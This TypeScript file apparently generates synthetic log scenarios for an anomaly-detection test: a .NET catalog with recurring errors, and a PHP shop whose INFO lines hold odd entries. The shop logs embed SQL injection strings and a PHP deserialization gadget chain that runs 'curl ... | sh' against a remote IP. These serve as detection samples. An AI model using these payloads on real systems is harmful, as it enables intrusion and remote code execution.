// Recurring lines: a handful of error messages each about twenty times in an otherwise error-free
// .NET catalog, and long or structurally odd INFO lines recurring in a PHP shop.

import type { Scenario } from "../blind/types.js";
import { k8s, MIN, monolog, nginxLine, pod, rng, serilog, Timeline, times, UAS, uuid, weighted, windowStart } from "./kit.js";

export function catalogRecurringErrors(seed: number): Scenario {
  const name = "catalog-recurring-errors";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 240 * MIN;
  const tl = new Timeline();
  const api = pod(r, "catalog-api", "catalog");
  const indexer = pod(r, "catalog-indexer", "catalog");
  const media = pod(r, "media-proxy", "catalog");
  const skus = Array.from({ length: 80 }, () => `${r.pick(["LMP", "CHR", "TBL", "RUG"])}-${r.int(1000, 9999)}`);

  const errors: (() => [typeof api, Record<string, unknown>, { ClassName: string; Message: string; StackTraceString: string } | undefined, string])[] = [
    () => [
      api,
      { ProductId: r.int(100000, 999999), SourceContext: "Catalog.Api.Caching.ProductCache" },
      {
        ClassName: "Newtonsoft.Json.JsonReaderException",
        Message: "Unexpected character encountered while parsing value: <. Path '', line 0, position 0.",
        StackTraceString:
          "   at Newtonsoft.Json.JsonTextReader.ParseValue()\n   at Catalog.Api.Caching.ProductCache.GetAsync(Int64 id) in /src/Catalog.Api/Caching/ProductCache.cs:line 58",
      },
      "Failed to deserialize product {ProductId} from cache",
    ],
    () => [
      indexer,
      { Sku: r.pick(skus), SourceContext: "Catalog.Indexer.SkuWriter" },
      {
        ClassName: "Npgsql.PostgresException",
        Message: '23505: duplicate key value violates unique constraint "ix_skus_code"',
        StackTraceString:
          "   at Npgsql.Internal.NpgsqlConnector.ReadMessageLong()\n   at Catalog.Indexer.SkuWriter.UpsertAsync(Sku sku) in /src/Catalog.Indexer/SkuWriter.cs:line 112",
      },
      "Could not upsert SKU {Sku}",
    ],
    () => [
      indexer,
      { Feed: "supplier-prices-eu", SourceContext: "Catalog.Indexer.PriceFeedImporter" },
      {
        ClassName: "System.Net.Http.HttpRequestException",
        Message: "Response status code does not indicate success: 403 (Forbidden).",
        StackTraceString:
          "   at System.Net.Http.HttpResponseMessage.EnsureSuccessStatusCode()\n   at Catalog.Indexer.PriceFeedImporter.FetchAsync(String feed) in /src/Catalog.Indexer/PriceFeedImporter.cs:line 40",
      },
      "Unhandled exception importing price feed {Feed}",
    ],
    () => [
      media,
      { Sku: r.pick(skus), StatusCode: 500, Elapsed: r.int(20, 90), SourceContext: "System.Net.Http.HttpClient.cdn.LogicalHandler" },
      undefined,
      "HTTP GET https://media-origin.internal/img/{Sku} responded {StatusCode} in {Elapsed} ms",
    ],
    () => [
      api,
      { RequestPath: `/api/v3/products/${r.pick(skus)}/variants`, SourceContext: "Microsoft.AspNetCore.Diagnostics.ExceptionHandlerMiddleware" },
      {
        ClassName: "System.NullReferenceException",
        Message: "Object reference not set to an instance of an object.",
        StackTraceString:
          "   at Catalog.Api.Mapping.VariantMapper.ToDto(Variant v) in /src/Catalog.Api/Mapping/VariantMapper.cs:line 27\n   at System.Linq.Enumerable.SelectListIterator`2.ToList()",
      },
      "An unhandled exception has occurred while executing the request.",
    ],
  ];
  const kinds = r.int(4, 5);
  for (let k = 0; k < kinds; k++) {
    const make = errors[k] as (typeof errors)[number];
    for (const t of times(r, r.int(17, 23), t0 + r.int(0, 40) * MIN, t1)) {
      const [src, props, exc, template] = make();
      tl.add(t, serilog(src, t, "error", template, props, exc), "error");
    }
  }

  const n = r.int(4800, 5200) - tl.size;
  for (const t of times(r, n, t0, t1)) {
    const line = weighted(r, [
      [
        50,
        () =>
          serilog(api, t, "info", "HTTP {RequestMethod} {RequestPath} responded {StatusCode} in {Elapsed:0.0000} ms", {
            RequestMethod: "GET",
            RequestPath: `/api/v3/products/${r.pick(skus)}`,
            StatusCode: weighted(r, [
              [96, 200],
              [3, 304],
              [1, 404],
            ]),
            Elapsed: Number(r.logn(18, 0.4).toFixed(4)),
            RequestId: `0HN${r.hex(9).toUpperCase()}:0000000${r.int(1, 9)}`,
            SourceContext: "Serilog.AspNetCore.RequestLoggingMiddleware",
          }),
      ],
      [
        20,
        () =>
          serilog(indexer, t, "info", "Indexed {Count} SKUs from {Feed} in {Elapsed} ms", {
            Count: r.int(50, 400),
            Feed: r.pick(["supplier-prices-eu", "supplier-prices-us", "stock-levels"]),
            Elapsed: r.int(200, 1500),
            SourceContext: "Catalog.Indexer.Worker",
          }),
      ],
      [
        20,
        () =>
          serilog(media, t, "info", "Received HTTP response headers after {ElapsedMilliseconds}ms - {StatusCode}", {
            ElapsedMilliseconds: Number(r.logn(25, 0.4).toFixed(4)),
            StatusCode: 200,
            SourceContext: "System.Net.Http.HttpClient.cdn.ClientHandler",
          }),
      ],
      [
        3,
        () =>
          serilog(api, t, "warn", "Slow cache refresh for {Region}: {Elapsed} ms", {
            Region: r.pick(["eu-west", "us-east"]),
            Elapsed: r.int(300, 800),
            SourceContext: "Catalog.Api.Caching.ProductCache",
          }),
      ],
      [
        7,
        () =>
          serilog(api, t, "debug", "Cache hit ratio {Ratio:P1}", {
            Ratio: Number((0.9 + r.next() * 0.08).toFixed(3)),
            SourceContext: "Catalog.Api.Caching.ProductCache",
          }),
      ],
    ] as const)();
    tl.add(t, line);
  }
  return tl.scenario(
    name,
    "A .NET catalog whose normal traffic has no errors repeats four or five distinct error messages about twenty times each over four hours",
  );
}

export function shopOddInfoLines(seed: number): Scenario {
  const name = "shop-odd-info-lines";
  const r = rng(seed, name);
  const t0 = windowStart(r);
  const t1 = t0 + 200 * MIN;
  const tl = new Timeline();
  const web = pod(r, "nginx", "shop");
  const b64 = (len: number) => {
    const abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let s = "";
    for (let i = 0; i < len; i++) s += abc[Math.floor(r.next() * 64)];
    return s;
  };
  const req = () => ({ uid: r.hex(7), url: "/checkout", ip: r.ip("10.8."), http_method: "POST", server: "shop.example.com" });

  // A webhook handler that dumps whole bodies at INFO: thousands of characters.
  for (const t of times(r, r.int(11, 14), t0, t1)) {
    tl.add(
      t,
      monolog(
        t,
        "info",
        "webhook",
        `Incoming PSP notification body: {"notificationItems":[{"NotificationRequestItem":{"additionalData":{"cardSummary":"${r.int(1000, 9999)}","expiryDate":"0${r.int(1, 9)}/2027","authCode":"${r.int(100000, 999999)}","threeDSecureResult":"${b64(r.int(1800, 3200))}"},"amount":{"currency":"EUR","value":${r.int(500, 90000)}},"eventCode":"AUTHORISATION","merchantReference":"${uuid(r)}","pspReference":"${r.hex(16).toUpperCase()}","success":"true"}}]}`,
        {},
        req(),
      ),
      "pattern",
    );
  }
  // A search box passing SQL through: the query logged as it came.
  for (const t of times(r, r.int(10, 13), t0, t1)) {
    const q = r.pick([
      "' UNION SELECT username,password_hash,email FROM admin_users-- -",
      "lamp' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- ",
      "1' ORDER BY 12-- -",
      "' OR '1'='1' /*",
    ]);
    tl.add(t, monolog(t, "info", "search", "Product search", { query: q, results: 0, took_ms: r.int(3, 9) }, req()), "pattern");
  }
  // A PHP serialized object with newlines where a sentence should be.
  for (const t of times(r, r.int(10, 13), t0, t1)) {
    tl.add(
      t,
      monolog(
        t,
        "info",
        "session",
        `Restored cart from cookie:\nO:8:"CartItem":3:{s:3:"sku";s:8:"LMP-${r.int(1000, 9999)}";s:3:"qty";i:1;s:5:"price";O:13:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\\0GuzzleHttp\\Psr7\\FnStream\\0methods";a:1:{s:5:"close";s:6:"system";}s:9:"_fn_close";s:${r.int(20, 40)}:"curl -s http://${r.ip("91.")}/x|sh";}}\n`,
        {},
        req(),
      ),
      "pattern",
    );
  }

  const products = Array.from({ length: 50 }, () => r.int(1000, 9999));
  const n = r.int(4300, 4800) - tl.size;
  for (const t of times(r, n, t0, t1)) {
    const rt = r.logn(0.09, 0.45);
    const line = weighted(r, [
      [
        40,
        () =>
          k8s(
            web,
            t,
            nginxLine(
              t,
              r.ip("10.8."),
              "GET",
              `/product/${r.pick(products)}`,
              weighted(r, [
                [96, 200],
                [4, 404],
              ]),
              r.int(9000, 40000),
              r.pick(UAS),
              rt,
              rt * 0.95,
            ),
          ),
      ],
      [20, () => monolog(t, "info", "shop", "Product viewed", { product_id: r.pick(products), customer_id: r.chance(0.6) ? r.int(1, 400000) : null }, req())],
      [12, () => monolog(t, "info", "cart", "Cart updated", { cart_id: r.hex(12), items: r.int(1, 7), total: Number((r.next() * 400).toFixed(2)) }, req())],
      [
        5,
        () =>
          monolog(
            t,
            "info",
            "order",
            "Order placed",
            { order_id: r.int(100000, 999999), total: Number((r.next() * 600).toFixed(2)), payment: r.pick(["card", "paypal", "klarna"]) },
            req(),
          ),
      ],
      [
        10,
        () =>
          monolog(
            t,
            "info",
            "search",
            "Product search",
            { query: r.pick(["lamp", "oak table", "rug 200x300", "chair", "linen"]), results: r.int(0, 80), took_ms: r.int(4, 40) },
            req(),
          ),
      ],
      [
        5,
        () =>
          monolog(
            t,
            "warn",
            "php",
            "Deprecated: Creation of dynamic property Shop\\Model\\Product::$legacyRating is deprecated",
            { file: "/var/www/src/Model/Product.php", line: 214 },
            req(),
          ),
      ],
      [
        8,
        () =>
          monolog(
            t,
            "debug",
            "doctrine",
            "Executing statement: SELECT p0_.id AS id_0, p0_.sku AS sku_1 FROM product p0_ WHERE p0_.id = ?",
            { params: [r.pick(products)] },
            req(),
          ),
      ],
    ] as const)();
    tl.add(t, line);
  }
  return tl.scenario(
    name,
    "A PHP shop where three kinds of odd INFO line recur about a dozen times each: whole webhook bodies, SQL injection in searches, a serialized gadget chain in a cookie",
  );
}
